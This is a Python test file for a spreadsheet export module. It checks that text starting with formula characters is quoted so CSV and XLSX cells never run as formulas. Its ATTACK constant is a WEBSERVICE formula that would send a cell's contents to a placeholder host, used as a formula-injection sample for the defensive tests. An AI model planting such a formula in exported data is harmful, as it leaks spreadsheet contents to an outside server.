"""The one CSV/XLSX writer (core/files/sheets.py): no text value ever runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os

import openpyxl
import pytest

from core.files.sheets import XlsxSheet, csv_text, safe_value, write_csv

ATTACK = '=WEBSERVICE("http://x/?"&A1)'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert safe_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Yohanes Ndun", "", "a=b", 5, -5, 1.5, None, dt.date(2026, 1, 2)])
def test_plain_text_numbers_and_dates_are_left_as_they_are(value):
    assert safe_value(value) == value


def test_csv_rows_are_neutralised_and_numbers_stay_numbers():
    out = io.StringIO()
    count = write_csv(out, ["worker_name", "approved_amount"],
                      [{"worker_name": ATTACK, "approved_amount": -5, "extra": "ignored"}])
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == 1
    assert rows == [{"worker_name": "'" + ATTACK, "approved_amount": "-5"}]


def test_csv_text_with_bom_and_header_only():
    assert csv_text(["a", "b"], (), header=True, bom=True) == "\ufeffa,b\n"


def test_xlsx_text_is_a_string_cell_never_a_formula():
    sheet = XlsxSheet("Klaim", ["worker_name", "hold_reason", "approved_amount"])
    sheet.append([ATTACK, "=1+1\x01", 1_000_000])
    path = sheet.save_temporary()
    try:
        cells = openpyxl.load_workbook(path).active[2]
    finally:
        os.unlink(path)
    assert [c.value for c in cells] == ["'" + ATTACK, "'=1+1", 1_000_000]
    assert [c.data_type for c in cells] == ["s", "s", "n"]
